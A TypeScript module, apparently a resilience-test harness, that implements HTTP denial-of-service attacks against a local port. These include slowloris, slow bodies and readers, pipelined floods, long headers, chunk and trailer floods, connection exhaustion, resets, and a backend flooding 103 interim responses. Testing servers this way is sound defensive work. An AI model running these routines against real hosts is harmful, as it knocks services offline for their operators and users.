import { connect, createServer, type Socket } from 'node:net';

/** What an attack aims at. */
export interface Target {
  readonly port: number;
}

/** An attack: begins, and goes on until its process ends. */
export type Attack = (target: Target) => void;

const post = (path: string, framing: string): string => `POST ${path} HTTP/1.1\r\nHost: h\r\n${framing}\r\n`;
const chunked = 'Transfer-Encoding: chunked\r\n';

/** A connection that nobody minds to lose; `again` is called when it is gone. */
function open({ port }: Target, again: () => void): Socket {
  const socket = connect({ port, host: '127.0.0.1' });
  socket.on('error', () => undefined);
  // A turn later, so that a refusal does not become a loop that never rests.
  socket.on('close', () => setTimeout(again, 1));
  return socket;
}

/** Keeps `count` connections going, each made anew when it ends. */
function keep(count: number, target: Target, begin: (socket: Socket) => void): void {
  const one = (): void => {
    const socket = open(target, one);
    socket.on('connect', () => begin(socket));
  };
  for (let index = 0; index < count; index += 1) one();
}

/** Writes the same bytes as fast as they are taken; what comes back is thrown away. */
function pour(socket: Socket, bytes: Buffer): void {
  socket.resume();
  const more = (): void => {
    while (socket.writable && socket.write(bytes));
  };
  socket.on('drain', more);
  more();
}

/** Writes a few bytes now and then. */
function drip(socket: Socket, everyMs: number, bytes: string): void {
  socket.resume();
  const timer = setInterval(() => socket.write(bytes), everyMs);
  socket.on('close', () => clearInterval(timer));
}

/** A backend that answers with an endless stream of interim answers. */
export async function startInterimFlood(port: number): Promise<void> {
  const flood = Buffer.from('HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n'.repeat(500));
  const server = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.once('data', () => pour(socket, flood));
  });
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
}

/** The attacks by name, each of a size that one hostile client reaches with ease. */
export const attacks = {
  slowloris: (target) =>
    keep(2_000, target, (socket) => {
      socket.write('GET / HTTP/1.1\r\nHost: h\r\n');
      drip(socket, 1_000, 'X: a\r\n');
    }),
  'slow bodies': (target) =>
    keep(500, target, (socket) => {
      socket.write(post('/', 'Content-Length: 1000000\r\n'));
      drip(socket, 1_000, 'x');
    }),
  'slow readers': (target) =>
    keep(100, target, (socket) => {
      socket.pause();
      socket.write('GET /large HTTP/1.1\r\nHost: h\r\n\r\n');
    }),
  'interim answers': (target) =>
    keep(8, target, (socket) => {
      socket.resume();
      socket.write('GET /hostile HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n');
    }),
  'pipelined requests': (target) =>
    keep(4, target, (socket) =>
      pour(socket, Buffer.from('GET /local HTTP/1.1\r\nHost: h\r\n\r\n'.repeat(1_000))),
    ),
  'pipelined requests, answers unread': (target) =>
    keep(8, target, (socket) => {
      pour(socket, Buffer.from('GET /local HTTP/1.1\r\nHost: h\r\n\r\n'.repeat(1_000)));
      socket.pause();
    }),
  'long heads': (target) =>
    keep(4, target, (socket) =>
      pour(socket, Buffer.from(`GET / HTTP/1.1\r\nHost: h\r\n${`X-Y: ${'a'.repeat(500)}\r\n`.repeat(90)}`)),
    ),
  connections: (target) => keep(3_000, target, (socket) => void socket.resume()),
  resets: (target) => {
    const request = post('/', 'Content-Length: 10\r\n') + '0123456789';
    let turn = 0;
    keep(8, target, (socket) => {
      socket.write(request.slice(0, (turn += 7) % request.length));
      setTimeout(() => socket.resetAndDestroy(), 2);
    });
  },
  'chunk extensions': (target) =>
    keep(4, target, (socket) =>
      pour(socket, Buffer.from(post('/', chunked) + `1;${'a=b;'.repeat(60)}c\r\nx\r\n`.repeat(100))),
    ),
  'chunks of one byte': (target) =>
    keep(2, target, (socket) => {
      socket.write(post('/', chunked));
      pour(socket, Buffer.from('1\r\nx\r\n'.repeat(1_000)));
    }),
  trailers: (target) =>
    keep(4, target, (socket) => {
      socket.write(`${post('/', chunked)}0\r\n`);
      pour(socket, Buffer.from('X-Trailer: a\r\n'.repeat(1_000)));
    }),
} as const satisfies Readonly<Record<string, Attack>>;

/** Name of an attack. */
export type AttackName = keyof typeof attacks;
